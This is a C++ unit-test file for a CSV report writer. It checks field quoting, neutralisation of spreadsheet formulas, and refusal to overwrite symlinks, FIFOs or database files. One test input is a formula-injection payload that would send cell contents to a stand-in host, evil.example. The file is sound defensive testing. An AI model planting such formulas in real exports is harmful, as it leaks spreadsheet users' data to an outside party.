// CSV fields of the pre-flight report: quoted exactly when a reader would otherwise split or
// trim them, never taken for a formula; and the file the report may replace.
#include "app/report/ReportCsv.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <stdexcept>

#include "tests/support/TempDir.h"

namespace {

namespace fs = std::filesystem;

const std::string kHeader = "table,measure,count,value,related";

std::string Contents(const fs::path& file) {
  std::ifstream in(file, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

// Every entry of the folder: its kind and its contents or link target.
std::map<std::string, std::string> Snapshot(const fs::path& folder) {
  std::map<std::string, std::string> entries;
  for (const auto& entry : fs::directory_iterator(folder)) {
    const fs::file_status status = entry.symlink_status();
    std::string& seen = entries[entry.path().filename().string()];
    if (fs::is_symlink(status))
      seen = "link " + fs::read_symlink(entry.path()).string();
    else if (fs::is_regular_file(status))
      seen = "file " + Contents(entry.path());
    else
      seen = "other " + std::to_string(static_cast<int>(status.type()));
  }
  return entries;
}

// The message of the report writer's refusal; empty when it wrote the report.
std::string WriteOrRefusal(const fs::path& file, const fs::path& databaseFolder = {}) {
  try {
    WritePreflightReportCsv(file.string(), {}, "C:\\Docs", "E:\\New", databaseFolder.string());
  } catch (const std::runtime_error& e) {
    return e.what();
  }
  return {};
}

TEST(ReportCsv, FieldsAreQuotedOnlyWhereNeeded) {
  const struct {
    std::string field;
    std::string csv;
  } cases[] = {
      {"", ""},
      {"C:\\Docs\\a.doc", "C:\\Docs\\a.doc"},
      {"C:\\Docs\\כהן ובניו\\חוזה.docx", "C:\\Docs\\כהן ובניו\\חוזה.docx"},
      {"Smith, J", "\"Smith, J\""},
      {"say \"hi\"", "\"say \"\"hi\"\"\""},
      {"\"", "\"\"\"\""},
      {"two\nlines", "\"two\nlines\""},
      {"cr\rhere", "\"cr\rhere\""},
      {" E:\\Shared", "\" E:\\Shared\""},
      {"trailing ", "\"trailing \""},
      {"in between", "in between"},
  };
  for (const auto& c : cases) EXPECT_EQ(CsvField(c.field), c.csv) << c.field;
}

TEST(ReportCsv, TextASpreadsheetWouldTakeForAFormulaIsNeutralised) {
  const struct {
    std::string field;
    std::string csv;
  } cases[] = {
      {"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
       "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\""},
      {"=1+1", "'=1+1"},
      {"+A1", "'+A1"},
      {"-2+3", "'-2+3"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "\"'\r=1\""},
      {"C:\\a=b+c-d@e", "C:\\a=b+c-d@e"},
      {"'quoted", "'quoted"},
  };
  for (const auto& c : cases) EXPECT_EQ(CsvField(c.field), c.csv) << c.field;

  // The counts stay numbers; the folders are text cells like any value.
  TPreflightReport report;
  report.Docs.Examined = 7;
  const std::string csv = PreflightReportCsv(report, "-C:\\Docs", "@E:\\New");
  EXPECT_NE(csv.find("\r\n,new_under_old,0,'-C:\\Docs,'@E:\\New\r\nDocs,examined,7,,\r\n"),
            std::string::npos)
      << csv;
}

TEST(ReportCsv, ReplacesOnlyAnEmptyFileOrAnEarlierReportAndNeverFollowsALink) {
  TTempDir temp;
  const fs::path folder = temp.Path();
  std::ofstream(folder / "victim.txt") << "keep me";
  std::ofstream(folder / "earlier.csv") << kHeader << "\r\nDocs,examined,1,,\r\n";
  const std::string expected = PreflightReportCsv({}, "C:\\Docs", "E:\\New");
  const auto file = [&](const fs::path& name, const std::string& text) {
    std::ofstream(folder / name, std::ios::binary) << text;
  };
  const struct {
    const char* name;
    std::function<void(const fs::path&)> plant;
    bool replaced;
  } cases[] = {
      {"new.csv", [](const fs::path&) {}, true},
      {"empty.csv", [&](const fs::path& at) { file(at, ""); }, true},
      {"older.csv", [&](const fs::path& at) { file(at, kHeader + "\r\nCards,examined,2,,\r\n"); },
       true},
      {"header-only.csv", [&](const fs::path& at) { file(at, kHeader); }, true},
      {"Varnel.sqlite",
       [&](const fs::path& at) { file(at, std::string("SQLite format 3\0\x10\0\x02\x02", 20)); },
       false},
      {"VarnelCRM.ini", [&](const fs::path& at) { file(at, "[DATABASE]\r\nPath=../DB\r\n"); },
       false},
      {"second-line.csv", [&](const fs::path& at) { file(at, "x\r\n" + kHeader + "\r\n"); }, false},
      {"wider.csv", [&](const fs::path& at) { file(at, kHeader + ",extra\r\n"); }, false},
      {"folder", [](const fs::path& at) { fs::create_directory(at); }, false},
      {"fifo", [](const fs::path& at) { ASSERT_EQ(mkfifo(at.c_str(), 0644), 0); }, false},
      {"link.csv", [&](const fs::path& at) { fs::create_symlink(folder / "victim.txt", at); },
       false},
      {"report-link.csv",
       [&](const fs::path& at) { fs::create_symlink(folder / "earlier.csv", at); }, false},
      {"dangling.csv", [&](const fs::path& at) { fs::create_symlink(folder / "nowhere.csv", at); },
       false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const fs::path at = folder / c.name;
    c.plant(at);
    std::map<std::string, std::string> want = Snapshot(folder);
    const std::string refusal = WriteOrRefusal(at);
    if (c.replaced) {
      EXPECT_EQ(refusal, "");
      want[c.name] = "file " + expected;
    } else {
      EXPECT_EQ(refusal.rfind("The report is not written to " + at.string() + ": ", 0), 0u)
          << refusal;
    }
    EXPECT_EQ(Snapshot(folder), want);  // nothing else written, no temporary file left
  }

  // The database folder's lock files are empty: nothing in that folder is replaced.
  const fs::path database = folder / "DB";
  fs::create_directory(database);
  std::ofstream(database / "Varnel.sqlite.SYSLOCK.lock") << "";
  for (const char* name : {"Varnel.sqlite.SYSLOCK.lock", "new.csv"}) {
    const std::string refusal = WriteOrRefusal(folder / "DB/../DB" / name, database);
    EXPECT_EQ(
        refusal.rfind("The report is not written to " + (folder / "DB/../DB" / name).string() +
                          ": no report is written into the database folder",
                      0),
        0u)
        << refusal;
  }
  EXPECT_EQ(Snapshot(database),
            (std::map<std::string, std::string>{{"Varnel.sqlite.SYSLOCK.lock", "file "}}));
}

TEST(ReportCsv, TheTemporaryFileIsNeverAPlantedLinkAndTakesTheUsualMode) {
  TTempDir temp;
  const fs::path victim = temp.Path() / "victim.txt";
  const fs::path report = temp.Path() / "rep.csv";
  std::ofstream(victim) << "keep me";
  // Links at the names a temporary file might take: this process's id and those around it.
  for (pid_t pid = getpid() - 50; pid <= getpid() + 50; ++pid)
    fs::create_symlink(victim, report.string() + ".tmp" + std::to_string(pid));
  const mode_t umaskBefore = umask(0002);
  const std::string refusal = WriteOrRefusal(report);
  umask(umaskBefore);
  EXPECT_EQ(refusal, "");
  EXPECT_EQ(Contents(victim), "keep me");
  struct stat written {};
  ASSERT_EQ(lstat(report.c_str(), &written), 0);
  EXPECT_TRUE(S_ISREG(written.st_mode));
  EXPECT_EQ(written.st_mode & 07777, 0644u);
  EXPECT_EQ(Contents(report), PreflightReportCsv({}, "C:\\Docs", "E:\\New"));
  EXPECT_EQ(std::distance(fs::directory_iterator(temp.Path()), fs::directory_iterator()), 103);
}

TEST(ReportCsv, CheckedFilesAddTheirRowsAndAnEnforcedWidthItsOwn) {
  TPreflightReport report;
  report.Files = {true, "/mnt/old", ""};
  report.Docs.Examined = 3;
  report.Docs.Width = 260;
  report.Docs.OldFileMissing.Add("C:\\Docs\\a,b.doc", "/mnt/old/a,b.doc");
  const std::string csv = PreflightReportCsv(report, "C:\\Docs", "E:\\New");
  EXPECT_NE(csv.find("Docs,examined,3,,\r\nDocs,column_width,260,,\r\nDocs,will_change,0,,\r\n"),
            std::string::npos)
      << csv;
  EXPECT_NE(csv.find("Docs,too_long,0,,\r\nDocs,old_file_missing,1,,\r\n"
                     "Docs,old_file_missing,,\"C:\\Docs\\a,b.doc\",\"/mnt/old/a,b.doc\"\r\n"
                     "Docs,other_folders,0,,\r\n"
                     "Cards,examined,0,,\r\n"),
            std::string::npos)
      << csv;
  EXPECT_EQ(csv.find("new_file_present"), std::string::npos);  // no new root: not checked
  EXPECT_EQ(csv.find("Cards,column_width"), std::string::npos);
}

}  // namespace
